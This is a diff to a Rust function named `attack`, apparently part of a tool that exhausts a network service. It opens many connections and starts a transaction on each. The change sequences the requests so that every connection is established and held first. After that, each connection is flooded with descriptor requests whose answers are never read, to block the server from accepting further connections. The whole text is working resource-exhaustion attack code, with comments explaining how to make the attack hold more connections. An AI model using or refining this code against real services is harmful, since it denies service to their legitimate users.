@@ -19,13 +19,17 @@ pub(crate) fn attack(target: &Target, args: &[&str]) -> Result<Infallible, Strin
     for _ in 0..number::<usize>(connections)? {
         let Ok(mut client) = Client::connect(&target.socket, "unread") else { break };
         let Ok(tm) = client.start_tm(target.nid, PORTAL, 1) else { break };
-        for id in 0..REQUESTS {
-            let packet = wire::packet(kind::TM_DESCRIPTOR, id, &tm.handle.to_le_bytes());
-            if client.socket.try_send(&packet).is_err() {
-                break;
-            }
+        // The descriptor is made with the first answer, which is read: those that are not read are copies of it.
+        if client.call(kind::TM_DESCRIPTOR, &tm.handle.to_le_bytes()).is_err() {
+            break;
         }
         held.push((client, tm));
+    }
+    // Only now: who waits for answers that do not come gets no further connection.
+    for (client, tm) in &held {
+        let ask =
+            |id| client.socket.try_send(&wire::packet(kind::TM_DESCRIPTOR, id, &tm.handle.to_le_bytes()));
+        let _ = (0..REQUESTS).try_for_each(ask);
     }
     hold(&format!("{} connections", held.len()))
 }
